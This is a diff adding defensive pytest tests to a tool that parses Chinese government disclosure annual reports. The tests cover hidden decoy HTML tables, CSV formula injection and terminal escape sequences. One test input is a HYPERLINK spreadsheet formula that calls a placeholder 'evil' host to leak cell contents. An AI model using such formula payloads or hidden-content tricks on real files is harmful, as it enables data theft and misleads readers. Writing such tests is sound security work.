@@ -6,6 +6,7 @@ over the classes are in ``tests/property/test_hostile.py``.
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
 import io
 import json
@@ -790,3 +791,141 @@ def test_a_fifo_is_no_input(tmp_path: Path) -> None:
 
 def load_total(path: Path) -> AnnualReport:
     return g.load(path)
+
+
+# --- what a person sees ----------------------------------------------------------------
+
+_SEEN_HEAD = (
+    "<html><body><h1>某县2023年政府信息公开工作年度报告</h1><p>二、主动公开政府信息情况</p>"
+)
+_REAL = (
+    "<table><tr><td>第二十条第（一）项</td></tr>"
+    "<tr><td>规章</td><td>2</td><td>0</td><td>5</td></tr></table>"
+)
+_DECOY = "<table {}><tr><td>规章</td><td>999</td><td>0</td><td>999</td></tr></table>"
+
+# (case, attributes of a decoy table printed before the report's)
+HIDDEN_TABLES = [
+    ("display:none", 'style="display:none"'),
+    ("display: none !important", 'style="color:red; display: none !important"'),
+    ("the hidden attribute", "hidden"),
+    ("aria-hidden", 'aria-hidden="true"'),
+    ("visibility:hidden", 'style="visibility:hidden"'),
+    ("zero size", 'style="width:0;height:0;overflow:hidden"'),
+    ("zero font size", 'style="font-size:0"'),
+    ("Word's mso-hide", "style='mso-hide:all'"),
+]
+
+
+@pytest.mark.parametrize("attrs_", [c[1] for c in HIDDEN_TABLES], ids=[c[0] for c in HIDDEN_TABLES])
+def test_hidden_html_is_not_read(attrs_: str) -> None:
+    page = (_SEEN_HEAD + _DECOY.format(attrs_) + _REAL + "</body></html>").encode()
+    record = g.read_html(page)
+    assert [(c.key[-1], c.raw) for c in record.cells][:3] == [
+        ("issued", "2"),
+        ("repealed", "0"),
+        ("in_force", "5"),
+    ]
+
+
+@pytest.mark.parametrize(
+    ("cell", "raw"),
+    [
+        ("3<span style='display:none'>99</span>7", "37"),
+        ("3<span hidden>99</span>7", "37"),
+        ("3<span style='width:0'>9</span>7", "397"),  # a zero width alone: still seen
+    ],
+    ids=["display:none", "hidden", "zero width only"],
+)
+def test_hidden_text_in_a_cell_is_not_read(cell: str, raw: str) -> None:
+    table = _REAL.replace("<td>2</td>", f"<td>{cell}</td>")
+    record = g.read_html((_SEEN_HEAD + table + "</body></html>").encode())
+    found = record.cell(("proactive", "regulations", "issued"))
+    assert found is not None
+    assert found.raw == raw
+
+
+def _with_parts(n: int) -> AnnualReport:
+    from govinfo_report.model import Narrative, Part  # noqa: PLC0415
+
+    parts = tuple(Part(title=f"第{i}项工作", paragraphs=(f"内容{i}。",)) for i in range(1, n + 1))
+    return AnnualReport(organ="某县", year=2023, overview=Narrative(parts=parts))
+
+
+def test_99_parts_round_trip_and_100_are_refused() -> None:
+    from govinfo_report.model import MAX_PARTS  # noqa: PLC0415
+
+    report = _with_parts(MAX_PARTS)
+    assert g.read_docx(g.docx_bytes(report)).to_report() == report
+    with pytest.raises(ReportError) as err:
+        _with_parts(MAX_PARTS + 1)
+    assert [f.code for f in err.value.findings] == ["S-LIMIT"]
+    data = _doc()
+    data["overview"]["parts"] = [{"title": "x", "paragraphs": []}] * (MAX_PARTS + 1)
+    assert [(f.code, f.place.path) for f in check(data)] == [("S-LIMIT", "$.overview.parts")]
+
+
+# --- presentation: CSV, terminal, language -----------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("value", "written"),
+    [
+        ('=HYPERLINK("http://evil/?x="&A1,"x")', '\'=HYPERLINK("http://evil/?x="&A1,"x")'),
+        ("+1+1", "'+1+1"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("-5", "-5"),
+        ("12.50", "12.50"),
+        ("规章", "规章"),
+        (3, 3),
+    ],
+)
+def test_csv_cells_never_start_a_formula(value: object, written: object) -> None:
+    from govinfo_report.cli._common import csv_safe  # noqa: PLC0415
+
+    assert csv_safe(value) == written
+
+
+def test_read_cells_and_audit_csv_are_neutralised(tmp_path: Path) -> None:
+    evil = '=HYPERLINK("http://evil/?x="&A1,"x")'
+    page = tmp_path / "page.html"
+    table = _REAL.replace("<td>2</td>", f"<td>{evil}</td>")
+    page.write_bytes((_SEEN_HEAD + table + "</body></html>").encode())
+    for argv in (["read", "--cells", str(page)], ["audit", "--format", "csv", str(page)]):
+        _, out, _ = _cli(*argv)
+        assert "HYPERLINK" in out
+        cells = [cell for row in csv.reader(io.StringIO(out)) for cell in row]
+        assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
+        assert "'" + evil in cells or any(c.startswith("'=HYPERLINK") for c in cells)
+
+
+def test_terminal_output_escapes_control_characters(tmp_path: Path) -> None:
+    page = tmp_path / "page.html"
+    title = "某县\x1b[2J\x1b[31m2023年政府信息公开工作年度报告"
+    page.write_bytes(f"<html><body><h1>{title}</h1><p>\u202e反向</p></body></html>".encode())
+    for argv in (["read", str(page)], ["audit", str(page)]):
+        _, out, err = _cli(*argv)
+        assert "\x1b" not in out + err
+        assert "\u202e" not in out + err
+
+
+def test_errors_printed_by_run_follow_lang(tmp_path: Path) -> None:
+    bad = tmp_path / "bad.json"
+    bad.write_text("{", encoding="utf-8")
+    target = tmp_path / "x.docx"
+    _, _, err_en = _cli("render", str(bad), "-o", str(target), "--lang", "en")
+    assert err_en
+    assert not any("\u4e00" <= ch <= "\u9fff" for ch in err_en.replace(str(tmp_path), ""))
+
+
+@pytest.mark.parametrize("suffix", [".doc", ".wps", ".docx"])
+def test_old_or_encrypted_word_files_say_to_save_as_docx(suffix: str, tmp_path: Path) -> None:
+    path = tmp_path / f"report{suffix}"
+    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(range(256)) * 4)
+    with pytest.raises(ReadError, match=r"save it as \.docx"):
+        g.read(path)
+    with pytest.raises(ReadError, match=r"save it as \.docx"):
+        g.read_docx(path)
